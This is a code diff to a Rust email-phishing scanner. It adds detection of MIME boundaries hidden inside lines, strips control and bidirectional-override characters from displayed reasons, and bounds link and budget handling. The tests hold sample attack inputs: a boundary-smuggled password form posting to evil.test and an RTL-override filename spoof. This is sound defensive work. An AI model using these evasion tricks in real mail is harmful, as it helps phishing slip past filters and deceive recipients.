@@ -81,6 +81,7 @@ const SIGNALS: &[(&str, f64, Scaling)] = &[
     ("no_authentication", 1.5, Scaling::Fixed),
     ("arc_only", 1.0, Scaling::Fixed),
     ("malformed", 5.0, Scaling::Fixed),
+    ("mime_confusion", 10.0, Scaling::Fixed),
     (SCAN_LIMIT, 0.0, Scaling::Fixed),
 ];
 
@@ -324,6 +325,26 @@ impl Engine {
         })
     }
 
+    /// The verdict when a scan could not finish (a detector panicked): the scan limit's.
+    pub fn scan_failed(&self, auth: Auth) -> Analysis {
+        Analysis {
+            score: 0.0,
+            action: crate::verdict::decide(0.0, true, &self.thresholds),
+            auth: auth.name(),
+            signals: vec![Signal {
+                name: SCAN_LIMIT,
+                weight: 0.0,
+                reason: "scan limit reached (the scan failed)".into(),
+                evidence: Vec::new(),
+            }],
+            external: true,
+            sender_domain: None,
+            links: 0,
+            attachments: 0,
+            scan_limited: true,
+        }
+    }
+
     pub fn thresholds(&self) -> Thresholds {
         self.thresholds
     }
@@ -379,6 +400,7 @@ impl Engine {
         }
         if let Some(m) = &parsed {
             scan.walk(m, 0);
+            scan.boundaries(m, message);
         }
         scan.check_links();
         scan.wording();
@@ -505,6 +527,28 @@ const MAX_TEXT: usize = 128 * 1024;
 const MAX_EVIDENCE: usize = 5;
 /// Nested messages (message/rfc822 inside message/rfc822) followed at most.
 const MAX_DEPTH: usize = 4;
+/// Links read per message, at most (each part is bounded too).
+const MAX_MESSAGE_LINKS: usize = 5000;
+/// Characters of a reason kept (they end up in header fields and banners).
+const MAX_REASON: usize = 200;
+
+/// A reason as shown to people: control and bidirectional-override characters (which
+/// could forge lines or reorder text in a banner or a log) become `?`, at most
+/// [`MAX_REASON`] characters.
+fn clean(reason: &str) -> String {
+    let mut out: String = reason
+        .chars()
+        .map(|c| {
+            let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}');
+            if c.is_control() || bidi { '?' } else { c }
+        })
+        .take(MAX_REASON)
+        .collect();
+    if reason.chars().count() > MAX_REASON {
+        out.push('…');
+    }
+    out
+}
 
 impl Scan<'_, '_> {
     fn fire(&mut self, name: &'static str, reason: String) {
@@ -512,6 +556,7 @@ impl Scan<'_, '_> {
     }
 
     fn fire_scaled(&mut self, name: &'static str, reason: String, factor: f64) {
+        let reason = clean(&reason);
         let (base, scaling) = self
             .engine
             .weights
@@ -705,20 +750,28 @@ impl Scan<'_, '_> {
     /// Every part, depth first, within the budget.
     fn walk(&mut self, m: &Message<'_>, depth: usize) {
         for part in &m.parts {
+            let name = part.attachment_name();
             if self.over_budget() {
-                return;
+                // What is left gets the checks that cost nothing: a program named as
+                // one is still found after the budget ran out.
+                if let Some(n) = name {
+                    self.attachments += 1;
+                    for f in attachments::inspect(n, None, &[]) {
+                        self.finding(&f);
+                    }
+                }
+                continue;
             }
             self.parts += 1;
             let ctype = part.content_type().map(|c| {
                 let sub = c.subtype().unwrap_or_default();
                 format!("{}/{}", c.ctype(), sub).to_ascii_lowercase()
             });
-            let name = part.attachment_name();
             match &part.body {
                 PartType::Html(html) if name.is_none() => {
                     let (found, issues, text) = links::html(html);
                     self.add_html_text(&text);
-                    self.links.extend(found);
+                    self.add_links(found);
                     for i in issues {
                         self.link_issue(i);
                     }
@@ -727,12 +780,12 @@ impl Scan<'_, '_> {
                     if !self.html_text {
                         self.add_text(text);
                     }
-                    self.links.extend(links::text(text));
+                    self.add_links(links::text(text));
                 }
                 PartType::Message(inner) => {
                     if depth + 1 >= MAX_DEPTH {
                         self.limited = true;
-                        return;
+                        continue;
                     }
                     self.walk(inner, depth + 1);
                 }
@@ -751,6 +804,46 @@ impl Scan<'_, '_> {
                 }
             }
         }
+    }
+
+    /// A multipart boundary inside a line: RFC 2046 §5.1.1 delimiters start lines, and
+    /// mail readers split only there, but a lenient parser may split mid-line too; the
+    /// two would then see different messages, which only an attacker wants. Flagged, and
+    /// the raw message is read for links as a reader would see them.
+    fn boundaries(&mut self, m: &Message<'_>, raw: &[u8]) {
+        let mut confused = false;
+        for part in m.parts.iter().take(50) {
+            let Some(b) = part.content_type().and_then(|c| c.attribute("boundary")) else {
+                continue;
+            };
+            let delimiter = format!("--{b}");
+            confused |= memchr::memmem::find_iter(raw, delimiter.as_bytes())
+                .take(10_000)
+                .any(|at| at > 0 && raw[at - 1] != b'\n');
+            if confused {
+                break;
+            }
+        }
+        if confused {
+            self.fire(
+                "mime_confusion",
+                "a MIME boundary is hidden inside a line, so filters and mail readers see different messages".into(),
+            );
+            let text = String::from_utf8_lossy(&raw[..raw.len().min(1 << 20)]).into_owned();
+            let (found, issues, _) = links::html(&text);
+            self.add_links(found);
+            for i in issues {
+                self.link_issue(i);
+            }
+        }
+    }
+
+    fn add_links(&mut self, found: Vec<Link>) {
+        let room = MAX_MESSAGE_LINKS.saturating_sub(self.links.len());
+        if found.len() > room {
+            self.limited = true;
+        }
+        self.links.extend(found.into_iter().take(room));
     }
 
     fn attachment(&mut self, name: &str, ctype: Option<&str>, data: &[u8]) {
@@ -805,20 +898,19 @@ impl Scan<'_, '_> {
         if self.over_budget() {
             return;
         }
-        match qr::decode(data, self.engine.limits.max_qr_pixels) {
-            Ok(texts) => {
-                for t in texts {
-                    let found = links::text(&t);
-                    if let Some(l) = found.first() {
-                        self.fire(
-                            "qr_link",
-                            format!("the image {name} holds a QR code that opens {}", l.href),
-                        );
-                    }
-                    self.links.extend(found);
+        // A photo too large to search (`Err(TooLarge)`) is not a reason to distrust
+        // the message: it is skipped.
+        if let Ok(texts) = qr::decode(data, self.engine.limits.max_qr_pixels) {
+            for t in texts {
+                let found = links::text(&t);
+                if let Some(l) = found.first() {
+                    self.fire(
+                        "qr_link",
+                        format!("the image {name} holds a QR code that opens {}", l.href),
+                    );
                 }
+                self.add_links(found);
             }
-            Err(qr::TooLarge) => self.limited = true,
         }
     }
 
@@ -912,7 +1004,10 @@ impl Scan<'_, '_> {
         let shorteners: Vec<&str> = self.engine.shorteners.iter().map(String::as_str).collect();
         let mut hosts: Vec<String> = Vec::new();
         let mut orgs = links::Orgs::default();
-        for link in &links {
+        for (i, link) in links.iter().enumerate() {
+            if i % 64 == 0 && self.over_budget() {
+                break;
+            }
             let (issues, host) = links::inspect(link, &shorteners, &mut orgs);
             for i in issues {
                 self.link_issue(i);
@@ -921,7 +1016,10 @@ impl Scan<'_, '_> {
         }
         hosts.sort();
         hosts.dedup();
-        for h in hosts {
+        for (i, h) in hosts.into_iter().enumerate() {
+            if i % 16 == 0 && self.over_budget() {
+                break;
+            }
             let Some(l) = self.imitation(&h) else {
                 continue;
             };
@@ -1109,6 +1207,60 @@ mod tests {
         assert_eq!(ip.evidence.len(), 1, "{ip:?}");
         assert_eq!((a.links, a.attachments), (2, 1));
         assert_eq!(a.action, Action::Quarantine);
+    }
+
+    #[test]
+    fn a_boundary_inside_a_line_is_flagged_and_the_hidden_part_read() {
+        let body = "--x\r\nContent-Type: text/html\r\n\r\n<p>Hello</p><!----x-->\
+             <form action=https://evil.test/c><input type=password></form>\r\n--x--\r\n";
+        let m = msg(
+            "a@shop.test",
+            "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=x\r\n",
+            body,
+        );
+        let a = engine().analyze(&m, &Context::new(Auth::Aligned));
+        assert!(names(&a).contains(&"mime_confusion"), "{a:?}");
+        assert!(names(&a).contains(&"credential_form"), "{a:?}");
+        assert!(a.action >= Action::Quarantine, "{a:?}");
+        // Ordinary multiparts are not confused.
+        let ok = msg(
+            "a@shop.test",
+            "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=x\r\n",
+            "--x\r\nContent-Type: text/plain\r\n\r\nHello\r\n--x--\r\n",
+        );
+        assert_eq!(
+            engine().analyze(&ok, &Context::new(Auth::Aligned)).score,
+            0.0
+        );
+    }
+
+    #[test]
+    fn the_budget_skips_the_rest_but_names_are_still_read() {
+        let mut body = String::new();
+        for i in 0..30 {
+            body.push_str(&format!(
+                "--b\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n"
+            ));
+        }
+        body.push_str("--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=setup.exe\r\n\r\nx\r\n--b--\r\n");
+        let m = msg(
+            "a@shop.test",
+            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n",
+            &body,
+        );
+        let mut e = engine();
+        e.limits.max_parts = 10;
+        let a = e.analyze(&m, &Context::new(Auth::Aligned));
+        assert!(a.scan_limited);
+        assert!(names(&a).contains(&"attachment_program"), "{a:?}");
+        assert_eq!(a.action, Action::Quarantine);
+    }
+
+    #[test]
+    fn reasons_lose_control_and_bidi_characters() {
+        let r = clean("name\r\nIT: verified safe\u{202e}exe.pdf");
+        assert_eq!(r, "name??IT: verified safe?exe.pdf");
+        assert_eq!(clean(&"x".repeat(500)).chars().count(), MAX_REASON + 1);
     }
 
     #[test]
